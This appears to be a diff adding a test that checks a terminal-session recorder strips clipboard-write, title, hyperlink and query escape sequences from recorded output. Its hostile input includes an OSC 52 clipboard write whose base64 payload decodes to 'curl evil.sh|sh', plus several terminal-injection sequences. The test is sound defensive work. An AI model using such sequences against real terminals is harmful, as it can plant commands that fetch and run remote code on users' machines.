@@ -80,3 +80,13 @@ test('segmentRecord redacts secrets in the stream, the screen text and the argv 
   assert.match(record.body.screen, /\[REDACTED:[a-z-]+\]/);
   assert.match(record.body.session.argv.join(' '), /\[REDACTED:[a-z-]+\]/);
 });
+
+test('segmentRecord keeps only what draws the screen: no clipboard write, title, hyperlink or query reaches the note', async () => {
+  const hostile = ['\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07', '\x1b]0;user@host:~/r\x07', '\x1b]8;;https://x.test\x1b\\', '\x1b[6n', '\x1b[>0q', '\x1bP+q544e\x1b\\', '\x1b]11;?\x07'];
+  // Split in the middle of a sequence, as a pty read would.
+  const stream = `\x1b[1mbold\x1b[0m ${hostile.join('')}\x1b[?1049hdone\x1b[?1049l`;
+  const [seg] = segmentSession(sessionEvents(o(stream.slice(0, 30)), o(stream.slice(30)), w(['a', 'A1']))).segments;
+  const record = await segmentRecord(seg!, { segment: 0, taken: ['a'], partial: [], conversation: false }, { header, commit, boundAt: 1, boundBy: null });
+  const played = decodeStream(record.body).filter((e) => e[1] === 'o').map((e) => e[2]).join('');
+  assert.equal(played, '\x1b[1mbold\x1b[0m \x1b[?1049hdone\x1b[?1049l');
+});
